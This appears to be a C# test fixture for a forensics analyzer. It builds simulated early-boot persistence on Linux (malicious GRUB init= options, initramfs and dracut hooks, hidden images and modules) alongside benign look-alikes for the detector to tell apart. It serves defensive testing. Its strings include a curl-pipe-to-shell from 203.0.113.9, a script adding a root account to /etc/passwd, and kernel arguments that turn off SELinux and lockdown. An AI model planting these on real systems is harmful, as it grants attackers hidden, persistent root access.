using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Boot loaders and images of the early boot.</summary>
internal static class EarlyBootPlants
{
    private const string GrubConfig = "/boot/grub/grub.cfg";
    private const string Defaults = "/etc/default/grub";
    private const string Image = "/boot/initrd.img-" + PlantedModule.Release;
    private const string Hook = "/etc/initramfs-tools/hooks/netd";
    private const string HookText = "#!/bin/sh\nPREREQ=\"\"\n. /usr/share/initramfs-tools/hook-functions\ncopy_exec /usr/lib/.cache-d/agent /sbin/agent\n";
    private const string InitScript = "#!/bin/sh\nexport PATH=/sbin:/bin\nmount -t proc proc /proc\nexec run-init ${rootmnt} ${init}\n";

    public static IReadOnlyList<Plant> All { get; } = [.. Grub(), .. Initramfs()];

    private static Plant[] Grub() =>
    [
        new("L-GRUB", "first-process", Quiet, tree => tree.File(GrubConfig, Menu("quiet init=/usr/lib/boot/start")).File(Defaults, Default("quiet")).Program("/usr/lib/boot/start")) { Entries = [GrubConfig], Rule = "first-process" },
        new("L-GRUB", "first-process-script", Quiet, tree => tree.File(GrubConfig, Menu("quiet init=/grub-x.sh")).File(Defaults, Default("quiet init=/grub-x.sh")).Script("/grub-x.sh", "#!/bin/sh\n/usr/lib/.cache-d/agent &\nexec /sbin/init\n").Program("/usr/lib/.cache-d/agent")) { Entries = [GrubConfig, Defaults] },
        new("L-GRUB", "loader-entry", Quiet, tree => tree.File("/boot/loader/entries/0123456789abcdef-5.14.0.conf", "title AlmaLinux\nversion 5.14.0\nlinux /vmlinuz-5.14.0\ninitrd /initramfs-5.14.0.img\noptions root=/dev/vda1 ro init=/usr/libexec/boot-start\n").Program("/usr/libexec/boot-start")) { Host = PlantHost.RedHat, Entries = ["/boot/loader/entries/0123456789abcdef-5.14.0.conf"] },
        new("L-GRUB", "wanted-unit", Quiet, tree => tree.File(GrubConfig, Menu("quiet systemd.wants=bootstat.service")).Service("bootstat", "/usr/sbin/bootstat", enabled: false).Program("/usr/sbin/bootstat")) { Entries = [GrubConfig], Rule = "starts-unit" },
        new("L-GRUB", "hidden-second-image", Quiet, tree => tree.File(GrubConfig, Menu("quiet", " /boot/.microcode.img"))) { Entries = [GrubConfig], Rule = "hidden-image" },
        new("L-GRUB", "systemd-run", Quiet, tree => tree.File(GrubConfig, Menu("quiet \\\"systemd.run=/usr/lib/.b/run --boot\\\"")).Program("/usr/lib/.b/run")) { Entries = [GrubConfig] },
        new("L-GRUB", "menu-script", Loud, tree => tree.Script("/etc/grub.d/09_theme", "#!/bin/sh\nset -e\n/usr/share/.themes/gen\n").Program("/usr/share/.themes/gen")),
        new("L-GRUB", "menu-script-download", Loud, tree => tree.Script("/etc/grub.d/41_custom2", "#!/bin/sh\ncurl -fsSL http://203.0.113.9/b.sh | sh\n")),
        new("L-GRUB", "unprotected", Quiet, tree => tree.File(GrubConfig, Menu("quiet selinux=0 audit=0 module.sig_enforce=0 lockdown=none"))) { Entries = [GrubConfig], AtLeast = Severity.Medium, Rule = "protection-off" },
        new("L-GRUB", "extlinux", Quiet, tree => tree.File("/boot/extlinux.conf", "DEFAULT menu\nLABEL lts\n  MENU LABEL Linux lts\n  LINUX vmlinuz-lts\n  INITRD initramfs-lts\n  APPEND root=/dev/vda3 quiet init=/usr/lib/rc/start\n").Program("/usr/lib/rc/start")) { Host = PlantHost.Alpine, Entries = ["/boot/extlinux.conf"] },
        new("L-GRUB", "menu-not-made", Dormant, tree => tree.File(GrubConfig, Menu("quiet")).File(Defaults, Default("quiet init=/usr/lib/boot/start")).Program("/usr/lib/boot/start")) { TwinOf = "first-process" },
        new("L-GRUB", "script-not-executable", Dormant, tree => tree.File("/etc/grub.d/09_theme", "#!/bin/sh\nset -e\n/usr/share/.themes/gen\n").Program("/usr/share/.themes/gen")) { TwinOf = "menu-script" },
        new("L-GRUB", "stock", Benign, tree => tree.File(GrubConfig, Menu("quiet init=/lib/systemd/systemd console=tty0 console=ttyS0,115200 net.ifnames=0")).File(Defaults, Default("quiet console=ttyS0,115200"))
            .Owned("grub-common", "/etc/grub.d/00_header", "#!/bin/sh\nset -e\n. \"/usr/share/grub/grub-mkconfig_lib\"\n", 0b111_101_101, config: true).Owned("grub-common", "/etc/grub.d/40_custom", "#!/bin/sh\nexec tail -n +3 $0\n", 0b111_101_101, config: true)),
        new("L-GRUB", "old-cloud-image", Benign, tree => tree.File("/boot/loader/entries/x-4.18.0.conf", "title CentOS\nlinux /vmlinuz-4.18.0\ninitrd /initramfs-4.18.0.img\noptions $kernelopts\n").File("/boot/grub2/grubenv", "# GRUB Environment Block\nsaved_entry=x-4.18.0\nkernelopts=root=UUID=x ro selinux=0 crashkernel=auto mitigations=off\n")) { Host = PlantHost.RedHat },
        new("L-GRUB", "own-menu-entry", Benign, tree => tree.Script("/etc/grub.d/42_memtest", "#!/bin/sh\nexec tail -n +3 $0\nmenuentry 'memtest' {\n  linux16 /boot/memtest.bin\n}\n").File("/etc/default/grub.d/50-cloudimg-settings.cfg", "GRUB_CMDLINE_LINUX_DEFAULT=\"console=tty1 console=ttyS0\"\nGRUB_TIMEOUT=0\n")),
    ];

    private static Plant[] Initramfs() =>
    [
        new("L-INITRAMFS", "hook-with-hidden-program", Quiet, tree => tree.Script(Hook, HookText).Program("/usr/lib/.cache-d/agent")) { Entries = [Hook], Rule = "includes-unowned" },
        new("L-INITRAMFS", "hook-with-plain-program", Quiet, tree => tree.Script(Hook, "#!/bin/sh\n. /usr/share/initramfs-tools/hook-functions\ncopy_exec /usr/sbin/netd /sbin\n").Program("/usr/sbin/netd")) { Entries = [Hook], AtLeast = Severity.Medium },
        new("L-INITRAMFS", "adds-account", Loud, tree => tree.Script("/etc/initramfs-tools/scripts/local-bottom/fixes", "#!/bin/sh\necho \"x:x:0:0::/root:/bin/bash\" >> ${rootmnt}/etc/passwd\n")) { AtLeast = Severity.Critical },
        new("L-INITRAMFS", "plants-unit", Quiet, tree => tree.Script("/etc/initramfs-tools/scripts/init-bottom/console", "#!/bin/sh\ncp /etc/console.unit ${rootmnt}/etc/systemd/system/console-fix.service\n")) { Entries = ["/etc/initramfs-tools/scripts/init-bottom/console"], Rule = "changes-root" },
        new("L-INITRAMFS", "dracut-module", Quiet, tree => tree.File("/usr/lib/dracut/modules.d/99base2/module-setup.sh", "#!/bin/bash\ncheck() { return 0; }\ninstall() {\n  inst /usr/lib/.cache-d/agent /sbin/agent\n}\n").Program("/usr/lib/.cache-d/agent")) { Host = PlantHost.RedHat, Entries = ["/usr/lib/dracut/modules.d/99base2/module-setup.sh"] },
        new("L-INITRAMFS", "dracut-changes-root", Quiet, tree => tree.Script("/usr/lib/dracut/modules.d/99net2/net-final.sh", "#!/bin/sh\ninstall -m 755 /usr/lib/net2 /sysroot/usr/sbin/netd\n")) { Host = PlantHost.RedHat, Entries = ["/usr/lib/dracut/modules.d/99net2/net-final.sh"] },
        new("L-INITRAMFS", "unowned-program-in-image", Quiet, tree => Stock(tree).Built(Stock().Add("usr/sbin/netagent", new PlantedElf { Seed = "agent" }.Build()))) { Rule = "unowned-program" },
        new("L-INITRAMFS", "preload-in-image", Quiet, tree => Stock(tree).Built(Stock().Add("etc/ld.so.preload", "/usr/lib/libproc.so\n", 0x81A4))) { AtLeast = Severity.Critical, Rule = "preload" },
        new("L-INITRAMFS", "script-in-image", Quiet, tree => Stock(tree).Built(Stock().Add("scripts/init-bottom/console", "#!/bin/sh\ncp -a /sbin/agent ${rootmnt}/usr/sbin/consoled\n"))) { Rule = "changes-root" },
        new("L-INITRAMFS", "module-in-image", Quiet, tree => Stock(tree).Built(Stock().Add("usr/lib/modules/" + PlantedModule.Release + "/kernel/fs/fshelper.ko", PlantedModule.Build("fshelper"), 0x81A4))) { Rule = "unowned-module" },
        new("L-INITRAMFS", "among-those-of-packages", Quiet, tree => tree.Script("/usr/share/initramfs-tools/hooks/zz-keymap2", "#!/bin/sh\n. /usr/share/initramfs-tools/hook-functions\ncopy_file data /etc/keymap2\n")) { Entries = ["/usr/share/initramfs-tools/hooks/zz-keymap2"], AtLeast = Severity.Medium, Rule = "unowned-hook" },
        new("L-INITRAMFS", "hook-not-executable", Dormant, tree => tree.File(Hook, HookText).Program("/usr/lib/.cache-d/agent")) { TwinOf = "hook-with-hidden-program" },
        new("L-INITRAMFS", "stock-image", Benign, tree => Stock(tree).Built(Stock())),
        new("L-INITRAMFS", "remote-unlocking", Benign, tree => tree.Owned("dropbear-initramfs", "/usr/share/initramfs-tools/hooks/dropbear", "#!/bin/sh\n. /usr/share/initramfs-tools/hook-functions\ncopy_exec /usr/sbin/dropbear /sbin\n", 0b111_101_101).OwnedProgram("dropbear-initramfs", "/usr/sbin/dropbear")
            .Script("/etc/initramfs-tools/hooks/crypt-key", "#!/bin/sh\n. /usr/share/initramfs-tools/hook-functions\nmkdir -p $DESTDIR/keys\ncp /etc/keys/root.key $DESTDIR/keys/\ncopy_exec /usr/bin/curl\n").File("/etc/initramfs-tools/modules", "# list of modules\noverlay\n")),
        new("L-INITRAMFS", "owned-99", Benign, tree => tree.Owned("zfs-initramfs", "/usr/share/initramfs-tools/scripts/local-bottom/99-zfs", "#!/bin/sh\necho zfs > ${rootmnt}/etc/modules\n", 0b111_101_101).File("/etc/dracut.conf.d/10-local.conf", "add_drivers+=\" virtio_blk \"\nhostonly=\"no\"\n")),
    ];

    private static PlantTree Stock(PlantTree tree) => tree.Kernel().Owned("initramfs-tools-core", "/usr/share/initramfs-tools/init", InitScript, 0b111_101_101).OwnedProgram("busybox", "/usr/lib/initramfs-tools/bin/busybox", new PlantedElf { Seed = "busybox" }).OwnedProgram("kmod", "/usr/bin/kmod", new PlantedElf { Seed = "kmod" });

    private static PlantedInitramfs Stock() => new PlantedInitramfs().Add("init", InitScript).Add("usr/bin/busybox", new PlantedElf { Seed = "busybox" }.Build()).Add("usr/bin/kmod", new PlantedElf { Seed = "older kmod" }.Build())
        .Add("usr/lib/modules/" + PlantedModule.Release + "/kernel/fs/fuse/fuse.ko", PlantedModule.Build("fuse"), 0x81A4).Add("conf/initramfs.conf", "MODULES=most\nBUSYBOX=auto\n", 0x81A4)
        .Add("scripts/functions", "# -*- shell-script -*-\npanic() { sleep 1; }\n", 0x81A4).Add("etc/fstab", "\n", 0x81A4);

    private static PlantTree Built(this PlantTree tree, PlantedInitramfs image) => tree.Add(new PlantedFile(Image, Parsers.FileType.Regular) { Content = image.Build(), Modified = PlantTree.Planted, Created = PlantTree.Planted });

    private static string Default(string options) => "GRUB_DEFAULT=0\nGRUB_TIMEOUT=5\nGRUB_DISTRIBUTOR=`lsb_release -i -s 2> /dev/null || echo Debian`\nGRUB_CMDLINE_LINUX_DEFAULT=\"" + options + "\"\nGRUB_CMDLINE_LINUX=\"\"\n";

    private static string Menu(string options, string more = "") =>
        "set default=\"0\"\nmenuentry 'Debian GNU/Linux' --class debian $menuentry_id_option 'gnulinux-simple' {\n\tinsmod gzio\n\tlinux\t/boot/vmlinuz-6.1 root=UUID=1234 ro  " + options + "\n\tinitrd\t/boot/initrd.img-6.1" + more + "\n}\n";
}
